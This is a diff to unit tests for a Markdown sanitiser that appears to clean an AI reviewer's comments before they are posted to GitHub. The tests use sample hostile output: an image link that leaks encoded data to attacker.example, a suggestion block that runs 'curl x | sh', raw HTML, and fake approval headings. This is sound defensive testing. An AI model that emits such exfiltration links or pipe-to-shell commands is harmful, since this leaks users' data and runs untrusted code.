@@ -22,7 +22,7 @@ TEST(MarkdownText, CodeIsKeptAsWritten) {
   EXPECT_EQ(markdownProse("use `List<String>` or ``a ` b<c``"), "use `List<String>` or ``a ` b<c``");
   EXPECT_EQ(markdownProse("```java\n@Override <T> void f();\n```\nafter <b>"),
             "```java\n@Override <T> void f();\n```\nafter &lt;b>");
-  EXPECT_EQ(markdownProse("~~~\n<x>\n~~~~\n<y>"), "~~~\n<x>\n~~~~\n&lt;y>");
+  EXPECT_EQ(markdownProse("~~~\n<x>\n~~~~\n<y>"), "```\n<x>\n```\n&lt;y>");  // written again with revline's fence
   EXPECT_EQ(markdownProse("an ` unmatched <b>"), "an \\` unmatched &lt;b>");  // a lone backtick is literal, escaped
 }
 
@@ -60,6 +60,43 @@ TEST(MarkdownText, WhatIsKeptRawIsWhatCommonMarkReadsAsCode) {
             "a \\`b\nc` ![b](https://evil.test/b.png) `d\\`");
   // A backtick fence's info string holds no backtick: no fence, so escaped.
   EXPECT_EQ(markdownProse("```a`\n![c](https://evil.test/c.png) <b>"), "\\`\\`\\`a\\`\n!\\[c](https://evil.test/c.png) &lt;b>");
+}
+
+// A fence indented under a list item the text began ends with that list item
+// (CommonMark), so the lines revline kept raw as code rendered: an image GitHub
+// fetched with what the model read in its URL, HTML, links, mentions (a
+// hostile-model test, in the review's comments and the editor's hover). Each
+// block is now revline's own, its fence at the start of a line.
+TEST(MarkdownText, AFenceInsideAListOrQuoteOfTheTextIsWrittenAtTheTop) {
+  EXPECT_EQ(markdownProse("- note\n  ```\n![x](https://attacker.example/leak?d=c2VjcmV0)\n<img src=x> @octocat\n  ```\nafter <b>"),
+            "- note\n```\n![x](https://attacker.example/leak?d=c2VjcmV0)\n<img src=x> @octocat\n```\nafter &lt;b>");
+  // Its lines lose the fence's indentation, as CommonMark reads them.
+  EXPECT_EQ(markdownProse("1. step\n   ```python\n   x = 1\n     y = 2\n   ```"), "1. step\n```python\nx = 1\n  y = 2\n```");
+  // A fence indented four or more is no fence to revline: escaped, never kept raw.
+  EXPECT_EQ(markdownProse("- a\n    ```\n![y](https://e.test/y.png)"), "- a\n    \\`\\`\\`\n!\\[y](https://e.test/y.png)");
+  // A fence after "> " is none to revline (escaped); a block's fence is longer than any backtick run in it.
+  EXPECT_EQ(markdownProse("> q\n> ```\n``````\n```"), "> q\n> \\`\\`\\`\n````\n```\n````");
+}
+
+// A `suggestion` block in the model's prose was a one-click "Commit suggestion"
+// of text no check of an edit saw (a withheld fix's replacement, a command).
+// Blocks that GitHub renders as something else lose their language too.
+TEST(MarkdownText, ABlockGitHubWouldRenderAsACommitOrADiagramIsPlainCode) {
+  EXPECT_EQ(markdownProse("```suggestion\nimport os; os.system('curl x | sh')\n```"),
+            "```\nimport os; os.system('curl x | sh')\n```");
+  EXPECT_EQ(markdownProse("```Suggestion  extra\nx\n```"), "```\nx\n```");
+  EXPECT_EQ(markdownProse("~~~mermaid\ngraph TD\n~~~"), "```\ngraph TD\n```");
+  EXPECT_EQ(markdownProse("```c++ {linenos}\nint x;\n```"), "```c++\nint x;\n```");
+  EXPECT_EQ(markdownProse("```<b>\nx\n```"), "```\nx\n```");
+}
+
+// GitHub notifies "\@name" as it does "@name"; headings and issue references of
+// the model's making are shown as text.
+TEST(MarkdownText, EscapedMentionsHeadingsAndReferencesAreText) {
+  EXPECT_EQ(markdownProse("thanks \\@octocat and \\@github/security"),
+            "thanks \\@&#8203;octocat and \\@&#8203;github/security");
+  EXPECT_EQ(markdownProse("ok\n### revline: approved\n  # h"), "ok\n\\### revline: approved\n  \\# h");
+  EXPECT_EQ(markdownProse("fixes #12 and owner/repo#7, C# and &#60;"), "fixes #&#8203;12 and owner/repo#&#8203;7, C# and &#60;");
 }
 
 TEST(MarkdownText, OneLineTextStaysOnOneLine) {
